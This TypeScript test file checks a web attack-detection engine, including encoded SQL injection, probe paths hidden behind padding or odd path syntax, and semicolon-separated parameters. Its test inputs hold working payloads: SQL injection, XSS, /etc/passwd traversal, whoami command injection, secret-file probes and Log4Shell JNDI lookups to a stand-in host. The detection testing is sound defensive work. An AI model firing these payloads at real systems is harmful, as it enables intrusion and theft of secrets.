import { expect, test } from 'vitest';
import { createEngine } from '../index.ts';
import { requestOf } from '../rules/example-request.ts';

const engine = createEngine();

test('an ordinary request has the shared empty evidence and no score', () => {
  const request = requestOf({ target: '/catalog/view?id=17&page=2', referer: 'https://www.example.com/search' });
  const evidence = engine.inspect(request);
  expect(evidence).toBe(engine.inspect(requestOf({ target: '/' })));
  expect(engine.conclude(request, evidence)).toMatchObject({ score: 0, severity: 'LOW', matches: [] });
});

test('an attack is found through its encoding, and the match says where and how', () => {
  const request = requestOf({ target: '/item?id=%2531%2520union%2520select%25201' });
  const assessment = engine.conclude(request, engine.inspect(request));
  expect(assessment.severity).toBe('HIGH');
  expect(assessment.matches[0]).toMatchObject({
    class: 'SQL_INJECTION',
    parameter: 'id',
    decoded: ['percent', 'percent'],
  });
});

const WORDS = 'the+quick+brown+fox+';
const paddings = [
  ['parameters', `/shop?${Array.from({ length: 1_000 }, (_, n) => `p${n}=${n}`).join('&')}`],
  ['the same parameter', `/shop?${'a&'.repeat(1_000).slice(0, -1)}`],
  ['empty parameters', `/shop?${'&'.repeat(1_000)}a`],
  ['parameters of a table', `/shop?${Array.from({ length: 400 }, (_, n) => `columns%5B${n}%5D[data]=${n}`).join('&')}`],
  ['short parameters with escapes', `/shop?${Array.from({ length: 400 }, (_, n) => `p${n}=%20`).join('&')}`],
  [
    'longer parameters with escapes',
    `/shop?${Array.from({ length: 210 }, (_, n) => `p${n}=a%20b${'x'.repeat(20)}${n}`).join('&')}`,
  ],
  ['a long value', `/shop?q=${WORDS.repeat(420)}`],
  ['a very long value', `/shop?q=${WORDS.repeat(2_000)}`],
] as const;
const payloads = [
  ["id=1'+or+1=1--+-", 'SQL_INJECTION'],
  ['id=<script>alert(1)</script>', 'XSS'],
  ['f=../../../../etc/passwd', 'PATH_TRAVERSAL'],
  ['id=1;DROP+TABLE+users', 'SQL_INJECTION'],
] as const;

test.each(paddings.flatMap(([what, padding]) => payloads.map((payload) => [what, padding, ...payload] as const)))(
  'an attack is found behind padding: %s',
  (_what, padding, payload, attack) => {
    const request = requestOf({ target: `${padding}&${payload}` });
    expect(engine.conclude(request, engine.inspect(request))).toMatchObject({
      severity: 'HIGH',
      classes: expect.arrayContaining([attack]),
    });
    const harmless = requestOf({ target: padding });
    expect(engine.conclude(harmless, engine.inspect(harmless)).severity).toBe('LOW');
  },
);

test.each(['', 'http://shop.example', 'HTTP://shop.example:80', 'https://'])(
  'what is asked of a server by a whole URL is read as by a path: %s',
  (origin) => {
    const request = requestOf({ target: `${origin}/admin_dev.php/x` });
    expect(engine.conclude(request, engine.inspect(request)).classes[0]).toBe('RECON_PROBE');
  },
);

test.each([
  '/;a=b/.env',
  '/b;a=1/..;/.git;c/config;jsessionid=1',
  '/actuator;b/env;c=1.css',
  '/./wp-admin/./../wp-config.php.bak',
  '/\\phpinfo.php',
  '/backup.sql#b',
  '/phpinfo.php.',
])('a probe is found however its path is written: %s', (target) => {
  const request = requestOf({ target });
  expect(engine.conclude(request, engine.inspect(request)).severity).not.toBe('LOW');
});

test.each([
  '/shop/view;jsessionid=1A2B3C4D5E6F.node1?id=4',
  '/maps/tiles;layer=roads;v=1.2/9/265/168.png',
  '/owners/42;q=11;r=12/pets/21;q=22',
  '/rental-cars;city=berlin;from=2026-03-02/offers.html',
  '/guide/install.html#php.ini',
  '/docs/./api/../guide/index.html',
  '/files\\annual\\march.pdf',
  '/blog/what-comes-next...',
  '/image;base64,aGVsbG8gd29ybGQ=',
  '/tags/c%23/questions',
])('a path that a server reads in a way of its own is no attack: %s', (target) => {
  const request = requestOf({ target, referer: `https://www.example.com${target}` });
  expect(engine.conclude(request, engine.inspect(request)).severity).toBe('LOW');
});

test.each([
  "/item?page=2;id=1'+or+true",
  "/item?id=1'+or+true;page=2",
  '/view?lang=en&page=2;cmd=whoami',
  '/view?debug;url=http://127.1/;page=2',
  '/go?id=4;next=%2F%2Fb.example%5C@c.example;lang=en',
  '/view?a=1&amp;cmd=whoami',
  `/view?${Array.from({ length: 1_200 }, (_, i) => `a${i}=1;`).join('')}id=1'+or+true`,
])('an attack is found in a parameter that a semicolon parts from others: %.60s', (target) => {
  const request = requestOf({ target });
  expect(engine.conclude(request, engine.inspect(request)).severity).not.toBe('LOW');
});

test.each([
  '/gitweb?p=tools.git;a=commitdiff;h=1f0c3;hp=9a2b4',
  '/viewtopic.php?t=4;start=15;sort=asc',
  '/ad?url=https://ad.example/trackclk/N1.B2;aid=3;lat=;ord=1',
  '/x?img=data:image/png;base64,iVBORw0KGgo=;name=a.png',
  '/x?type=text/html;charset=utf-8;q=0.9',
  '/x?agent=Mozilla/5.0%20(X11;%20Linux%20x86_64;%20rv:140.0)%20Gecko;lang=en',
  '/x?cookie=a=1;path=/;domain=.example.com;expires=Thu',
  '/x?jdbc=jdbc:sqlserver://db.example;databaseName=a;user=b',
  '/search?q=int+x=1;y=2;printf(x)',
  "/search?q=name='b';size=4",
  '/x?sid=1;next=https://www.example.com/',
  "/api?name=Robert');%20DROP",
])('semicolons of an ordinary query are no attack: %s', (target) => {
  const request = requestOf({ target, referer: `https://www.example.com${target}` });
  expect(engine.conclude(request, engine.inspect(request)).severity).toBe('LOW');
});

test('what a page held when it was asked for is no further witness where it leads to itself, but an attack in its address is one', () => {
  const assess = (target: string, referer: string) => {
    const request = requestOf({ target, referer: `https://db.example.com${referer}` });
    return engine.conclude(request, engine.inspect(request));
  };
  const query = '?sql=SELECT+name%0Afrom+orders';
  expect(assess('/adminer.php?select=orders', `/adminer.php${query}`).severity).toBe('LOW');
  expect(assess('/adminer.php', `/adminer.php${query}`).severity).toBe('LOW');
  expect(assess('/adminer.php?select=orders', `/start${query}`).severity).not.toBe('LOW');
  expect(assess('/adminer.php', "/adminer.php?id=1'+union+select+1,2--").severity).toBe('HIGH');
});

test.each(["/item?id=1'+union+select+1,2--", "https://www.example.com/item?id=1'+union+select+1,2--"])(
  'an attack is found where the log tells of no method: %s',
  (target) => {
    const request = requestOf({ method: '-', target });
    expect(engine.conclude(request, engine.inspect(request)).classes[0]).toBe('SQL_INJECTION');
  },
);

test.each([
  ['agent', { userAgent: `Mozilla/5.0 ${'compatible; '.repeat(500)} \${jndi:ldap://host.example/a}` }],
  ['referer', { referer: `https://www.example.com/?q=${WORDS.repeat(300)}&a=\${jndi:ldap://host.example/a}` }],
])('an attack is found at the end of a long %s', (_field, part) => {
  const request = requestOf(part);
  expect(engine.conclude(request, engine.inspect(request))).toMatchObject({
    severity: 'HIGH',
    classes: expect.arrayContaining(['LOG4SHELL']),
  });
});

const attacking = { rule: 'ATTACKING_CLIENT', class: 'RECONNAISSANCE', score: 0.5, excerpt: '9 attacks' };
const guessing = { rule: 'LOGIN_BRUTE_FORCE', class: 'BRUTE_FORCE', score: 0.6, excerpt: '40 login attempts' };

test.each([
  ['/product?id=3+ORDER+BY+1--+-', '-', attacking, 'SQL_INJECTION'],
  ['/login', 'hydra', guessing, 'BRUTE_FORCE'],
  ['/login', 'hydra', attacking, 'SCANNER_UA'],
  ['/login', 'sqlmap/1.7.2#stable (https://sqlmap.org)', guessing, 'BRUTE_FORCE'],
  ['/product?id=3', '-', attacking, 'RECONNAISSANCE'],
])(
  'of evidence as strong, what was done names the event, and who did it does not: %s by %s',
  (target, userAgent, behaviour, first) => {
    const request = requestOf({ target, userAgent });
    const { matches, assessment, steps } = engine.explain(request, [behaviour]);
    expect(assessment.classes[0]).toBe(first);
    expect(matches[0]!.class).toBe(first);
    expect(steps[0]!.what).toContain(matches[0]!.rule);
  },
);
